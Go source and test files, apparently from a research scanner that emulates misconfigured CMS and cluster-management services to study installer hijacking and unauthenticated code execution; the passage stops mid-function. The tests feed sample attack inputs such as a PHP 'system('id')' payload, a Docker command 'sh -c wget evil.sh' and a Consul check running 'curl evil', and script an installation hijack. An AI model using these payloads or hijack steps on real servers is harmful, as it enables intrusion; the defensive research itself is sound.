	// The post-install code-execution surface: editing a PHP theme file
	// through the admin panel. Requires the admin password set at install
	// time — which the attacker chose if they hijacked the installation.
	mux.HandleFunc("/wp-admin/theme-editor.php", func(w http.ResponseWriter, r *http.Request) {
		if r.Method != http.MethodPost {
			htmlPage(w, http.StatusOK, "Edit Themes", `<form method="post"><textarea name="newcontent"></textarea></form>`)
			return
		}
		if !inst.checkAdminPassword(r.FormValue("password")) {
			htmlPage(w, http.StatusForbidden, "WordPress Failure Notice", "<p>Sorry, you are not allowed to edit templates.</p>")
			return
		}
		if cmd := r.FormValue("newcontent"); cmd != "" {
			inst.recordExec(r, "theme-editor", cmd)
		}
		htmlPage(w, http.StatusOK, "Edit Themes", "<p>File edited successfully.</p>")
	})
	serveAssets(mux, mav.WordPress, inst.Version())
	return mux
}

func buildGrav(inst *Instance) http.Handler {
	mux := http.NewServeMux()
	mux.HandleFunc("/", func(w http.ResponseWriter, r *http.Request) {
		if r.URL.Path != "/" {
			notFound(w)
			return
		}
		if !inst.Installed() {
			htmlPage(w, http.StatusOK, "Grav",
				`<h1>The Admin plugin has been installed</h1><p><a href="/admin">Create User</a> to begin.</p>`+assetLinks(mav.Grav))
			return
		}
		htmlPage(w, http.StatusOK, "Grav - A Modern Flat-File CMS",
			`<div class="grav-content">Say hello to Grav!</div>`+assetLinks(mav.Grav))
	})
	mux.HandleFunc("/admin", func(w http.ResponseWriter, r *http.Request) {
		if !inst.Installed() {
			if r.Method == http.MethodPost {
				pass := r.FormValue("password")
				if pass == "" {
					htmlPage(w, http.StatusBadRequest, "Grav Admin", "<p>Password required.</p>")
					return
				}
				inst.CompleteInstall(peerAddr(r).String(), pass)
				htmlPage(w, http.StatusOK, "Grav Admin", "<p>Admin account created.</p>")
				return
			}
			htmlPage(w, http.StatusOK, "Grav Admin",
				`<p>No user accounts found, please <a href="#create">create one</a>.</p>
<form method="post"><input name="username"><input type="password" name="password"></form>`)
			return
		}
		htmlPage(w, http.StatusOK, "Grav Admin Login",
			`<form method="post" action="/admin/login"><input name="username"><input type="password" name="password"></form>`)
	})
	// Post-install code execution: editing a Twig template.
	mux.HandleFunc("/admin/tools", func(w http.ResponseWriter, r *http.Request) {
		if r.Method != http.MethodPost || !inst.checkAdminPassword(r.FormValue("password")) {
			htmlPage(w, http.StatusForbidden, "Grav Admin", "<p>Unauthorized.</p>")
			return
		}
		if cmd := r.FormValue("template"); cmd != "" {
			inst.recordExec(r, "twig-template", cmd)
		}
		htmlPage(w, http.StatusOK, "Grav Admin", "<p>Template saved.</p>")
	})
	serveAssets(mux, mav.Grav, inst.Version())
	return mux
}

func buildJoomla(inst *Instance) http.Handler {
	mux := http.NewServeMux()
	mux.HandleFunc("/", func(w http.ResponseWriter, r *http.Request) {
		if r.URL.Path != "/" {
			notFound(w)
			return
		}
		if !inst.Installed() {
			http.Redirect(w, r, "/installation/index.php", http.StatusFound)
			return
		}
		htmlPage(w, http.StatusOK, "Home",
			`<meta name="generator" content="Joomla! - Open Source Content Management">
<div class="joomla-site">Welcome to your Joomla site!</div>`+assetLinks(mav.Joomla))
	})
	mux.HandleFunc("/installation/index.php", func(w http.ResponseWriter, r *http.Request) {
		if inst.Installed() {
			notFound(w)
			return
		}
		if !InsecureDefault(mav.Joomla, inst.Version()) {
			// The 3.7.4 countermeasure: the installer refuses to continue
			// until a random file is deleted from the server, proving
			// ownership. The page deliberately lacks the installer markers
			// so scanners (correctly) do not flag it.
			htmlPage(w, http.StatusOK, "Secured installation",
				`<p>To continue, please delete the file <code>_Joomla_installation_3f9ab2.txt</code> from the installation directory to verify ownership of this site.</p>`+assetLinks(mav.Joomla))
			return
		}
		if r.Method == http.MethodPost {
			pass := r.FormValue("admin_password")
			if pass == "" {
				htmlPage(w, http.StatusBadRequest, "Joomla! Web Installer", "<p>Password required.</p>")
				return
			}
			inst.CompleteInstall(peerAddr(r).String(), pass)
			htmlPage(w, http.StatusOK, "Joomla! Web Installer", "<p>Congratulations! Joomla! is now installed.</p>")
			return
		}
		htmlPage(w, http.StatusOK, "Joomla! Web Installer",
			`<h1>Joomla! Web Installer</h1>
<form method="post"><label>Enter the name of your Joomla! site</label>
<input name="site_name"><input name="admin_user"><input type="password" name="admin_password"></form>`)
	})
	mux.HandleFunc("/administrator/index.php", func(w http.ResponseWriter, r *http.Request) {
		if r.Method == http.MethodPost && inst.checkAdminPassword(r.FormValue("password")) {
			if cmd := r.FormValue("template_source"); cmd != "" {
				inst.recordExec(r, "template-edit", cmd)
			}
			htmlPage(w, http.StatusOK, "Joomla Administration", "<p>Template saved.</p>")
			return
		}
		htmlPage(w, http.StatusOK, "Joomla Administration Login",
			`<form action="/administrator/index.php" method="post"><input name="username"><input type="password" name="passwd"></form>`)
	})
	serveAssets(mux, mav.Joomla, inst.Version())
	return mux
}

func buildDrupal(inst *Instance) http.Handler {
	mux := http.NewServeMux()
	mux.HandleFunc("/", func(w http.ResponseWriter, r *http.Request) {
		if r.URL.Path != "/" {
			notFound(w)
			return
		}
		if !inst.Installed() {
			http.Redirect(w, r, "/core/install.php", http.StatusFound)
			return
		}
		w.Header().Set("X-Generator", "Drupal "+inst.Version())
		htmlPage(w, http.StatusOK, "Welcome | Drupal Site",
			`<meta name="Generator" content="Drupal `+inst.Version()+` (https://www.drupal.org)">
<div class="drupal-content">No front page content has been created yet.</div>`+assetLinks(mav.Drupal))
	})
	mux.HandleFunc("/core/install.php", func(w http.ResponseWriter, r *http.Request) {
		if inst.Installed() {
			htmlPage(w, http.StatusForbidden, "Drupal", "<p>Drupal already installed.</p>")
			return
		}
		if r.Method == http.MethodPost {
			pass := r.FormValue("account_pass")
			if pass == "" {
				htmlPage(w, http.StatusBadRequest, "Drupal installation", "<p>Password required.</p>")
				return
			}
			inst.CompleteInstall(peerAddr(r).String(), pass)
			htmlPage(w, http.StatusOK, "Drupal installation", "<p>Congratulations, you installed Drupal!</p>")
			return
		}
		// Note the erratic whitespace: the real installer renders this list
		// differently across versions, which is why the detection plugin
		// strips all whitespace before matching (Table 10).
		htmlPage(w, http.StatusOK, "Choose language | Drupal",
			`<ol class="task-list">
<li>Choose language</li>
<li class="is-active">Set up
	database</li>
<li>Install site</li>
</ol>
<form method="post"><input name="account_name"><input type="password" name="account_pass"></form>`)
	})
	serveAssets(mux, mav.Drupal, inst.Version())
	return mux
}
