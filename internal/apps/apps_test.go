package apps

import (
	"net/http/httptest"
	"net/netip"
	"net/url"
	"strings"
	"testing"
	"time"

	"mavscan/internal/mav"
)

func get(t *testing.T, inst *Instance, path string) *httptest.ResponseRecorder {
	t.Helper()
	req := httptest.NewRequest("GET", path, nil)
	req.RemoteAddr = "198.51.100.7:40000"
	rec := httptest.NewRecorder()
	inst.Handler().ServeHTTP(rec, req)
	return rec
}

func postForm(t *testing.T, inst *Instance, path, form string) *httptest.ResponseRecorder {
	t.Helper()
	req := httptest.NewRequest("POST", path, strings.NewReader(form))
	req.Header.Set("Content-Type", "application/x-www-form-urlencoded")
	req.RemoteAddr = "198.51.100.7:40000"
	rec := httptest.NewRecorder()
	inst.Handler().ServeHTTP(rec, req)
	return rec
}

func postJSON(t *testing.T, inst *Instance, path, body string) *httptest.ResponseRecorder {
	t.Helper()
	req := httptest.NewRequest("POST", path, strings.NewReader(body))
	req.Header.Set("Content-Type", "application/json")
	req.RemoteAddr = "198.51.100.7:40000"
	rec := httptest.NewRecorder()
	inst.Handler().ServeHTTP(rec, req)
	return rec
}

// TestEveryCatalogAppBuilds proves each of the 25 applications has an
// emulator and serves a landing page.
func TestEveryCatalogAppBuilds(t *testing.T) {
	for _, info := range mav.Catalog() {
		inst, err := New(Config{App: info.App})
		if err != nil {
			t.Fatalf("New(%s): %v", info.App, err)
		}
		rec := get(t, inst, "/")
		if rec.Code >= 500 {
			t.Errorf("%s: landing page status %d", info.App, rec.Code)
		}
	}
}

func TestVulnerableGroundTruthMatchesTable1(t *testing.T) {
	// Default-configuration instances at the latest release: only the
	// insecure-by-default products should be vulnerable.
	for _, info := range mav.InScopeApps() {
		cfg := Config{App: info.App}
		cfg.AuthRequired = !InsecureDefault(info.App, LatestVersion(info.App))
		// CMS products are vulnerable only pre-install; model a default
		// (freshly extracted) deployment as not yet installed.
		cfg.Installed = false
		if info.App == mav.Consul {
			// Consul's default has script checks disabled.
			cfg.Options = map[string]bool{}
		}
		inst, err := New(cfg)
		if err != nil {
			t.Fatalf("New(%s): %v", info.App, err)
		}
		wantVuln := info.Default == mav.InsecureByDefault
		if info.App == mav.Polynote {
			wantVuln = true
		}
		// Secure-by-default products with per-option MAVs are secure here.
		if got := inst.Vulnerable(); got != wantVuln {
			t.Errorf("%s: Vulnerable() = %v, want %v (default %s)", info.App, got, wantVuln, info.Default)
		}
	}
}

func TestJenkinsDetectionSurface(t *testing.T) {
	vuln, _ := New(Config{App: mav.Jenkins, AuthRequired: false})
	rec := get(t, vuln, "/view/all/newJob")
	if rec.Code != 200 || !strings.Contains(rec.Body.String(), `form id="createItem"`) {
		t.Fatalf("vulnerable Jenkins: got %d %q", rec.Code, rec.Body.String())
	}
	sec, _ := New(Config{App: mav.Jenkins, AuthRequired: true})
	rec = get(t, sec, "/view/all/newJob")
	if rec.Code == 200 && strings.Contains(rec.Body.String(), "createItem") {
		t.Fatal("secure Jenkins leaked the createItem form")
	}
	if rec.Header().Get("X-Jenkins") == "" {
		t.Error("Jenkins did not stamp X-Jenkins version header")
	}
}

func TestWordPressInstallHijack(t *testing.T) {
	var execs []string
	sink := ExecFunc(func(_ time.Time, src netip.Addr, app mav.App, via, cmd string) {
		execs = append(execs, via+":"+cmd)
	})
	inst, _ := New(Config{App: mav.WordPress, Installed: false, Exec: sink})
	if !inst.Vulnerable() {
		t.Fatal("uninstalled WordPress should be vulnerable")
	}
	rec := get(t, inst, "/wp-admin/install.php?step=1")
	body := rec.Body.String()
	if !strings.Contains(body, `form id="setup"`) || !strings.Contains(body, `id="pass1"`) {
		t.Fatalf("install page missing setup form: %q", body)
	}
	// Attacker completes the installation with their own password.
	rec = postForm(t, inst, "/wp-admin/install.php?step=2", "weblog_title=x&user_name=admin&admin_password=pwned")
	if rec.Code != 200 {
		t.Fatalf("install completion failed: %d", rec.Code)
	}
	if inst.Vulnerable() {
		t.Fatal("installed WordPress should no longer be vulnerable")
	}
	if inst.InstalledBy() == "" {
		t.Fatal("hijacked install should record the installer")
	}
	// Installation is exploitable exactly once.
	if inst.CompleteInstall("second", "x") {
		t.Fatal("second CompleteInstall must fail")
	}
	// With the stolen admin password, template editing executes code.
	form := url.Values{"password": {"pwned"}, "newcontent": {"<?php system('id'); ?>"}}
	rec = postForm(t, inst, "/wp-admin/theme-editor.php", form.Encode())
	if rec.Code != 200 {
		t.Fatalf("theme editor rejected valid password: %d", rec.Code)
	}
	if len(execs) != 1 || !strings.HasPrefix(execs[0], "theme-editor:") {
		t.Fatalf("exec not recorded: %v", execs)
	}
	// Wrong password must be rejected.
	rec = postForm(t, inst, "/wp-admin/theme-editor.php", url.Values{"password": {"wrong"}, "newcontent": {"x"}}.Encode())
	if rec.Code != 403 {
		t.Fatalf("theme editor accepted wrong password: %d", rec.Code)
	}
}

func TestDockerSurface(t *testing.T) {
	var cmds []string
	sink := ExecFunc(func(_ time.Time, _ netip.Addr, _ mav.App, via, cmd string) { cmds = append(cmds, cmd) })
	inst, _ := New(Config{App: mav.Docker, Exec: sink})
	rec := get(t, inst, "/")
	if rec.Code != 404 || !strings.Contains(rec.Body.String(), `"message":"page not found"`) {
		t.Fatalf("docker / should 404 with JSON: %d %q", rec.Code, rec.Body.String())
	}
	rec = get(t, inst, "/version")
	low := strings.ToLower(rec.Body.String())
	if !strings.Contains(low, "minapiversion") || !strings.Contains(low, "kernelversion") {
		t.Fatalf("docker /version missing markers: %q", rec.Body.String())
	}
	rec = postJSON(t, inst, "/containers/create", `{"Image":"alpine","Cmd":["sh","-c","wget evil.sh"]}`)
	if rec.Code != 201 {
		t.Fatalf("container create: %d %s", rec.Code, rec.Body.String())
	}
	if len(cmds) != 1 || cmds[0] != "sh -c wget evil.sh" {
		t.Fatalf("exec not recorded: %v", cmds)
	}
	// A TLS-authenticated daemon denies everything.
	secure, _ := New(Config{App: mav.Docker, AuthRequired: true})
	if rec := get(t, secure, "/version"); rec.Code != 403 {
		t.Fatalf("authenticated docker should deny /version: %d", rec.Code)
	}
}

func TestConsulScriptChecksGateExecution(t *testing.T) {
	var n int
	sink := ExecFunc(func(_ time.Time, _ netip.Addr, _ mav.App, _, _ string) { n++ })
	off, _ := New(Config{App: mav.Consul, Exec: sink})
	req := httptest.NewRequest("PUT", "/v1/agent/check/register", strings.NewReader(`{"Name":"x","Args":["curl","evil"]}`))
	req.RemoteAddr = "198.51.100.7:1"
	rec := httptest.NewRecorder()
	off.Handler().ServeHTTP(rec, req)
	if rec.Code != 400 || n != 0 {
		t.Fatalf("script checks disabled must refuse: %d n=%d", rec.Code, n)
	}
	on, _ := New(Config{App: mav.Consul, Options: map[string]bool{"enableScriptChecks": true}, Exec: sink})
	req = httptest.NewRequest("PUT", "/v1/agent/check/register", strings.NewReader(`{"Name":"x","Args":["curl","evil"]}`))
	req.RemoteAddr = "198.51.100.7:1"
	rec = httptest.NewRecorder()
	on.Handler().ServeHTTP(rec, req)
	if rec.Code != 200 || n != 1 {
		t.Fatalf("script checks enabled must execute: %d n=%d", rec.Code, n)
	}
	if !on.Vulnerable() || off.Vulnerable() {
		t.Fatal("Vulnerable() does not track script-check options")
	}
}

func TestHadoopSurface(t *testing.T) {
	inst, _ := New(Config{App: mav.Hadoop})
	rec := get(t, inst, "/cluster/cluster")
	low := strings.ToLower(rec.Body.String())
	for _, marker := range []string{"hadoop", "resourcemanager", "logged in as: dr.who"} {
		if !strings.Contains(low, marker) {
			t.Errorf("hadoop cluster page missing %q", marker)
		}
	}
	rec = get(t, inst, "/ws/v1/cluster/apps/new-application")
	if !strings.Contains(rec.Body.String(), "application-id") {
		t.Fatalf("new-application missing id: %q", rec.Body.String())
	}
}

func TestJupyterBrandsDiffer(t *testing.T) {
	lab, _ := New(Config{App: mav.JupyterLab})
	nb, _ := New(Config{App: mav.JupyterNotebook})
	labBody := get(t, lab, "/api/terminals").Body.String()
	nbBody := get(t, nb, "/api/terminals").Body.String()
	if !strings.Contains(labBody, "JupyterLab") || strings.Contains(labBody, "Jupyter Notebook") {
		t.Errorf("lab terminals body wrong: %q", labBody)
	}
	if !strings.Contains(nbBody, "Jupyter Notebook") || strings.Contains(nbBody, "JupyterLab") {
		t.Errorf("notebook terminals body wrong: %q", nbBody)
	}
	secure, _ := New(Config{App: mav.JupyterLab, AuthRequired: true})
	if rec := get(t, secure, "/api/terminals"); rec.Code != 403 {
		t.Fatalf("secured terminals endpoint must 403, got %d", rec.Code)
	}
}

func TestSnapshotRestore(t *testing.T) {
	inst, _ := New(Config{App: mav.WordPress, Installed: false})
	snap := inst.Snapshot()
	if !inst.CompleteInstall("attacker", "x") {
		t.Fatal("install should succeed")
	}
	if inst.Vulnerable() {
		t.Fatal("installed instance is not vulnerable")
	}
	inst.Restore(snap)
	if !inst.Vulnerable() {
		t.Fatal("restore must re-arm the trust-on-first-use MAV")
	}
	if inst.InstalledBy() != "" {
		t.Fatal("restore must clear installer identity")
	}
}

func TestInsecureDefaultCutovers(t *testing.T) {
	cases := []struct {
		app     mav.App
		version string
		want    bool
	}{
		{mav.Jenkins, "1.651", true},
		{mav.Jenkins, "2.0", false},
		{mav.Jenkins, "2.289", false},
		{mav.JupyterNotebook, "4.2.0", true},
		{mav.JupyterNotebook, "4.3.0", false},
		{mav.Joomla, "3.7.0", true},
		{mav.Joomla, "3.7.4", false},
		{mav.Adminer, "4.6.0", true},
		{mav.Adminer, "4.6.3", false},
		{mav.Hadoop, "3.3.1", true},      // never changed defaults
		{mav.Kubernetes, "1.5.0", false}, // always secure by default
		{mav.Polynote, "0.4.0", true},
	}
	for _, c := range cases {
		if got := InsecureDefault(c.app, c.version); got != c.want {
			t.Errorf("InsecureDefault(%s, %s) = %v, want %v", c.app, c.version, got, c.want)
		}
	}
}

func TestReleaseTimelinesAscending(t *testing.T) {
	for _, info := range mav.Catalog() {
		tl := Timeline(info.App)
		if len(tl) == 0 {
			t.Errorf("%s: empty timeline", info.App)
			continue
		}
		for i := 1; i < len(tl); i++ {
			if !tl[i-1].Date.Before(tl[i].Date) {
				t.Errorf("%s: timeline not ascending at %s", info.App, tl[i].Version)
			}
		}
	}
}

func TestAssetContentVersionSensitivity(t *testing.T) {
	a1 := AssetBody(mav.Grav, "1.6.0", "/system/assets/grav.css")
	a2 := AssetBody(mav.Grav, "1.7.14", "/system/assets/grav.css")
	if string(a1) == string(a2) {
		t.Fatal("versioned asset content must differ between releases")
	}
	s1 := AssetBody(mav.Grav, "1.6.0", "/static/logo.css")
	s2 := AssetBody(mav.Grav, "1.7.14", "/static/logo.css")
	if string(s1) != string(s2) {
		t.Fatal("stable asset content must match across releases")
	}
}
