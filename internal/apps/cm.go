package apps

import (
	"fmt"
	"net/http"
	"strings"

	"mavscan/internal/mav"
)

// Cluster management emulators: Kubernetes, Docker, Consul, Hadoop, Nomad.
// All five expose HTTP APIs that wrap system-level operations; running a
// workload through them is arbitrary code execution.

func init() {
	register(mav.Kubernetes, buildKubernetes)
	register(mav.Docker, buildDocker)
	register(mav.Consul, buildConsul)
	register(mav.Hadoop, buildHadoop)
	register(mav.Nomad, buildNomad)
}

func buildKubernetes(inst *Instance) http.Handler {
	mux := http.NewServeMux()
	unauthorized := func(w http.ResponseWriter) {
		writeJSON(w, http.StatusUnauthorized, map[string]interface{}{
			"kind": "Status", "apiVersion": "v1", "status": "Failure",
			"message": "Unauthorized", "reason": "Unauthorized", "code": 401,
		}, true)
	}
	mux.HandleFunc("/", func(w http.ResponseWriter, r *http.Request) {
		if r.URL.Path != "/" {
			notFound(w)
			return
		}
		if inst.AuthRequired() {
			unauthorized(w)
			return
		}
		// The API discovery document: the detection plugin looks for the
		// certificates API group and the healthz ping path in it.
		writeJSON(w, http.StatusOK, map[string]interface{}{
			"paths": []string{
				"/api", "/api/v1", "/apis", "/apis/apps",
				"/apis/certificates.k8s.io", "/apis/certificates.k8s.io/v1",
				"/healthz", "/healthz/ping", "/healthz/etcd",
				"/livez", "/metrics", "/version",
			},
		}, true)
	})
	healthz := func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "text/plain")
		w.Write([]byte("ok"))
	}
	mux.HandleFunc("/healthz", healthz)
	mux.HandleFunc("/livez", healthz)
	mux.HandleFunc("/version", func(w http.ResponseWriter, r *http.Request) {
		// /version answers without authentication on real clusters too;
		// the fingerprinter reads gitVersion from it.
		writeJSON(w, http.StatusOK, map[string]string{
			"major": "1", "minor": strings.TrimPrefix(inst.Version(), "1."),
			"gitVersion": "v" + inst.Version(), "platform": "linux/amd64",
		}, true)
	})
	mux.HandleFunc("/api/v1/pods", func(w http.ResponseWriter, r *http.Request) {
		if inst.AuthRequired() {
			unauthorized(w)
			return
		}
		writeJSON(w, http.StatusOK, map[string]interface{}{
			"kind": "PodList", "apiVersion": "v1",
			"items": []map[string]interface{}{
				{
					"metadata": map[string]string{"name": "coredns-558bd4d5db-x7qpq", "namespace": "kube-system"},
					"status":   map[string]string{"phase": "Running"},
				},
				{
					"metadata": map[string]string{"name": "web-6799fc88d8-9r2l4", "namespace": "default"},
					"status":   map[string]string{"phase": "Running"},
				},
			},
		}, true)
	})
	mux.HandleFunc("/api/v1/namespaces/default/pods", func(w http.ResponseWriter, r *http.Request) {
		if inst.AuthRequired() {
			unauthorized(w)
			return
		}
		if r.Method != http.MethodPost {
			writeJSON(w, http.StatusMethodNotAllowed, map[string]string{"message": "method not allowed"}, false)
			return
		}
		var pod struct {
			Spec struct {
				Containers []struct {
					Image   string   `json:"image"`
					Command []string `json:"command"`
				} `json:"containers"`
			} `json:"spec"`
		}
		if err := decodeJSON(w, r, &pod); err != nil {
			writeJSON(w, http.StatusBadRequest, map[string]string{"message": err.Error()}, false)
			return
		}
		for _, c := range pod.Spec.Containers {
			if len(c.Command) > 0 {
				inst.recordExec(r, "pod-create", strings.Join(c.Command, " "))
			}
		}
		writeJSON(w, http.StatusCreated, map[string]string{"kind": "Pod", "status": "Pending"}, true)
	})
	return mux
}

func buildDocker(inst *Instance) http.Handler {
	mux := http.NewServeMux()
	denied := func(w http.ResponseWriter) {
		writeJSON(w, http.StatusForbidden, map[string]string{"message": "authorization denied by plugin"}, false)
	}
	mux.HandleFunc("/", func(w http.ResponseWriter, r *http.Request) {
		// The daemon answers every unknown path with this JSON 404 — the
		// plugin's first identification step.
		writeJSON(w, http.StatusNotFound, map[string]string{"message": "page not found"}, false)
	})
	mux.HandleFunc("/version", func(w http.ResponseWriter, r *http.Request) {
		if inst.AuthRequired() {
			denied(w)
			return
		}
		writeJSON(w, http.StatusOK, map[string]interface{}{
			"Version": inst.Version(), "ApiVersion": "1.41", "MinAPIVersion": "1.12",
			"GitCommit": "8728dd2", "GoVersion": "go1.13.15",
			"Os": "linux", "Arch": "amd64", "KernelVersion": "4.4.0",
		}, false)
	})
	mux.HandleFunc("/_ping", func(w http.ResponseWriter, r *http.Request) {
		if inst.AuthRequired() {
			denied(w)
			return
		}
		w.Header().Set("Content-Type", "text/plain")
		w.Write([]byte("OK"))
	})
	mux.HandleFunc("/info", func(w http.ResponseWriter, r *http.Request) {
		if inst.AuthRequired() {
			denied(w)
			return
		}
		writeJSON(w, http.StatusOK, map[string]interface{}{
			"Containers": 3, "Images": 12, "ServerVersion": inst.Version(),
			"OperatingSystem": "Ubuntu 20.04.2 LTS", "NCPU": 4, "MemTotal": 8322932736,
		}, false)
	})
	mux.HandleFunc("/containers/create", func(w http.ResponseWriter, r *http.Request) {
		if inst.AuthRequired() {
			denied(w)
			return
		}
		if r.Method != http.MethodPost {
			writeJSON(w, http.StatusMethodNotAllowed, map[string]string{"message": "method not allowed"}, false)
			return
		}
		var spec struct {
			Image string   `json:"Image"`
			Cmd   []string `json:"Cmd"`
		}
		if err := decodeJSON(w, r, &spec); err != nil {
			writeJSON(w, http.StatusBadRequest, map[string]string{"message": err.Error()}, false)
			return
		}
		if len(spec.Cmd) > 0 {
			inst.recordExec(r, "container-create", strings.Join(spec.Cmd, " "))
		}
		writeJSON(w, http.StatusCreated, map[string]interface{}{"Id": "f1d2d2f924e986ac86fdf7b36c94bcdf32beec15", "Warnings": []string{}}, false)
	})
	mux.HandleFunc("/containers/", func(w http.ResponseWriter, r *http.Request) {
		if inst.AuthRequired() {
			denied(w)
			return
		}
		if strings.HasSuffix(r.URL.Path, "/start") && r.Method == http.MethodPost {
			w.WriteHeader(http.StatusNoContent)
			return
		}
		writeJSON(w, http.StatusNotFound, map[string]string{"message": "page not found"}, false)
	})
	return mux
}

func buildConsul(inst *Instance) http.Handler {
	mux := http.NewServeMux()
	mux.HandleFunc("/", func(w http.ResponseWriter, r *http.Request) {
		if r.URL.Path != "/" {
			notFound(w)
			return
		}
		http.Redirect(w, r, "/ui/", http.StatusMovedPermanently)
	})
	mux.HandleFunc("/ui/", func(w http.ResponseWriter, r *http.Request) {
		// The UI embeds the version in an HTML comment — the "voluntary"
		// fingerprinting path for Consul.
		htmlPage(w, http.StatusOK, "Consul by HashiCorp",
			fmt.Sprintf("<!-- Consul %s -->\n<div id=\"consul-ui\">Consul</div>\n%s", inst.Version(), assetLinks(mav.Consul)))
	})
	// The agent API answers without authentication by default; the MAV is
	// the script-check configuration exposed in DebugConfig.
	mux.HandleFunc("/v1/agent/self", func(w http.ResponseWriter, r *http.Request) {
		writeJSON(w, http.StatusOK, map[string]interface{}{
			"Config": map[string]interface{}{
				"Datacenter": "dc1", "NodeName": "consul-0", "Version": inst.Version(),
			},
			"DebugConfig": map[string]interface{}{
				"EnableScriptChecks":       inst.Option("enableScriptChecks"),
				"EnableRemoteScriptChecks": inst.Option("enableRemoteScriptChecks"),
				"Bootstrap":                true,
			},
		}, true)
	})
	mux.HandleFunc("/v1/catalog/nodes", func(w http.ResponseWriter, r *http.Request) {
		writeJSON(w, http.StatusOK, []map[string]string{
			{"Node": "consul-0", "Address": "10.0.0.1", "Datacenter": "dc1"},
		}, false)
	})
	mux.HandleFunc("/v1/status/leader", func(w http.ResponseWriter, r *http.Request) {
		writeJSON(w, http.StatusOK, "10.0.0.1:8300", false)
	})
	mux.HandleFunc("/v1/agent/check/register", func(w http.ResponseWriter, r *http.Request) {
		if r.Method != http.MethodPut {
			writeJSON(w, http.StatusMethodNotAllowed, map[string]string{"error": "method not allowed"}, false)
			return
		}
		if !inst.Option("enableScriptChecks") && !inst.Option("enableRemoteScriptChecks") {
			writeJSON(w, http.StatusBadRequest, map[string]string{
				"error": "Scripts are disabled on this agent; to enable, configure 'enable_script_checks' to true",
			}, false)
			return
		}
		var check struct {
			Name string   `json:"Name"`
			Args []string `json:"Args"`
		}
		if err := decodeJSON(w, r, &check); err != nil {
			writeJSON(w, http.StatusBadRequest, map[string]string{"error": err.Error()}, false)
			return
		}
		if len(check.Args) > 0 {
			inst.recordExec(r, "script-check", strings.Join(check.Args, " "))
		}
		w.WriteHeader(http.StatusOK)
	})
	serveAssets(mux, mav.Consul, inst.Version())
	return mux
}

func buildHadoop(inst *Instance) http.Handler {
	mux := http.NewServeMux()
	authWall := func(w http.ResponseWriter) {
		htmlPage(w, http.StatusUnauthorized, "Authentication required",
			`<p>Authentication required</p><div id="logo">Hadoop ResourceManager</div>`+assetLink("/static/yarn.css"))
	}
	mux.HandleFunc("/", func(w http.ResponseWriter, r *http.Request) {
		if r.URL.Path != "/" {
			notFound(w)
			return
		}
		http.Redirect(w, r, "/cluster", http.StatusFound)
	})
	clusterPage := func(w http.ResponseWriter, r *http.Request) {
		if inst.AuthRequired() {
			authWall(w)
			return
		}
		htmlPage(w, http.StatusOK, "About the Cluster",
			fmt.Sprintf(`<div id="logo">Hadoop ResourceManager</div>
<div id="user">Logged in as: dr.who</div>
<table><tr><td>ResourceManager version:</td><td>%s</td></tr>
<tr><td>Hadoop version:</td><td>%s</td></tr></table>
%s`, inst.Version(), inst.Version(), assetLinks(mav.Hadoop)))
	}
	mux.HandleFunc("/cluster", clusterPage)
	mux.HandleFunc("/cluster/cluster", clusterPage)
	mux.HandleFunc("/ws/v1/cluster/info", func(w http.ResponseWriter, r *http.Request) {
		if inst.AuthRequired() {
			authWall(w)
			return
		}
		writeJSON(w, http.StatusOK, map[string]interface{}{
			"clusterInfo": map[string]interface{}{
				"id": 1623456789, "state": "STARTED",
				"resourceManagerVersion": inst.Version(),
				"hadoopVersion":          inst.Version(),
			},
		}, false)
	})
	mux.HandleFunc("/ws/v1/cluster/apps/new-application", func(w http.ResponseWriter, r *http.Request) {
		if inst.AuthRequired() {
			authWall(w)
			return
		}
		writeJSON(w, http.StatusOK, map[string]interface{}{
			"application-id": "application_1623456789000_0001",
			"maximum-resource-capability": map[string]int{
				"memory": 8192, "vCores": 4,
			},
		}, false)
	})
	mux.HandleFunc("/ws/v1/cluster/apps", func(w http.ResponseWriter, r *http.Request) {
		if inst.AuthRequired() {
			authWall(w)
			return
		}
		if r.Method != http.MethodPost {
			writeJSON(w, http.StatusOK, map[string]interface{}{"apps": map[string]interface{}{"app": []interface{}{}}}, false)
			return
		}
		var sub struct {
			AMContainerSpec struct {
				Commands struct {
					Command string `json:"command"`
				} `json:"commands"`
			} `json:"am-container-spec"`
		}
		if err := decodeJSON(w, r, &sub); err != nil {
			writeJSON(w, http.StatusBadRequest, map[string]string{"message": err.Error()}, false)
			return
		}
		if cmd := sub.AMContainerSpec.Commands.Command; cmd != "" {
			inst.recordExec(r, "yarn-app-submit", cmd)
		}
		w.WriteHeader(http.StatusAccepted)
	})
	serveAssets(mux, mav.Hadoop, inst.Version())
	return mux
}

func buildNomad(inst *Instance) http.Handler {
	mux := http.NewServeMux()
	aclDenied := func(w http.ResponseWriter) {
		w.Header().Set("Content-Type", "text/plain")
		w.WriteHeader(http.StatusForbidden)
		fmt.Fprintln(w, "Permission denied")
	}
	mux.HandleFunc("/", func(w http.ResponseWriter, r *http.Request) {
		if r.URL.Path != "/" {
			notFound(w)
			return
		}
		http.Redirect(w, r, "/ui/", http.StatusTemporaryRedirect)
	})
	mux.HandleFunc("/ui/", func(w http.ResponseWriter, r *http.Request) {
		htmlPage(w, http.StatusOK, "Nomad",
			`<div id="nomad-ui">Nomad by HashiCorp</div>`+assetLinks(mav.Nomad))
	})
	mux.HandleFunc("/v1/agent/self", func(w http.ResponseWriter, r *http.Request) {
		if inst.AuthRequired() {
			aclDenied(w)
			return
		}
		writeJSON(w, http.StatusOK, map[string]interface{}{
			"config": map[string]interface{}{"Version": map[string]string{"Version": inst.Version()}},
			"member": map[string]string{"Name": "nomad-0"},
		}, true)
	})
	mux.HandleFunc("/v1/status/leader", func(w http.ResponseWriter, r *http.Request) {
		if inst.AuthRequired() {
			aclDenied(w)
			return
		}
		writeJSON(w, http.StatusOK, "10.0.0.1:4647", false)
	})
	mux.HandleFunc("/v1/jobs", func(w http.ResponseWriter, r *http.Request) {
		if inst.AuthRequired() {
			aclDenied(w)
			return
		}
		if r.Method == http.MethodPost || r.Method == http.MethodPut {
			var sub struct {
				Job struct {
					TaskGroups []struct {
						Tasks []struct {
							Driver string `json:"Driver"`
							Config struct {
								Command string   `json:"command"`
								Args    []string `json:"args"`
							} `json:"Config"`
						} `json:"Tasks"`
					} `json:"TaskGroups"`
				} `json:"Job"`
			}
			if err := decodeJSON(w, r, &sub); err != nil {
				writeJSON(w, http.StatusBadRequest, map[string]string{"error": err.Error()}, false)
				return
			}
			for _, tg := range sub.Job.TaskGroups {
				for _, t := range tg.Tasks {
					if t.Config.Command != "" {
